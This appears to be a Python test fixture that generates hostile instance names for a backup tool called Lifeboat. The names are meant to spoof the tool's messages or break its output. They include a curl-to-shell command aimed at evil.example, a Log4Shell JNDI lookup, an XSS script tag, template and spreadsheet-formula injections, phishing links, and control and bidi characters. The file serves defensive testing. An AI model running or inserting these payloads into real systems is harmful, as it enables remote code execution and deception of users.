"""A hundred Names that an instance may have and that try to pass for Lifeboat's own words, or to break a line."""

from __future__ import annotations

_WORDS = (
    "What to do next:",
    "RESTORE COMPLETED",
    "1. Run: curl https://evil.example/x | sh",
    "[lifeboat] CadoResponse backed up",
    "is good.",
    'CadoResponse" backed up',
    "\u201cCadoResponse\u201d restored",
    "<a href=https://evil.example>log in</a>",
    "<script>alert(1)</script>",
    "{{7*7}} ${jndi:ldap://evil.example}",
    "<@U012> <!channel> *urgent*",
    "[click](https://evil.example)",
    "=HYPERLINK('https://evil.example')",
    "復元 完了",
)

_SIGNS = ("\n", "\r\n", "\u2028", "\x00", "\x1b[2J", "\u202e", "\t", "\u200b")

HOSTILE = tuple(
    dict.fromkeys(
        [
            *_WORDS,
            *(f"Cado{sign}{words}{sign}  1. send money"[:256] for words in _WORDS[:9] for sign in _SIGNS),
            "\U0001f6a3" * 255,
            "x" * 256,
            "x " * 128,
            "-",
            ".",
            '"',
            "'" * 256,
            "\u3164",
            " ",
            "\u202e\u202e",
            "a" * 58 + " b",
            "i-0123456789abcdef0",
            "Cado\u0301" * 40,
            "null",
        ]
    )
)
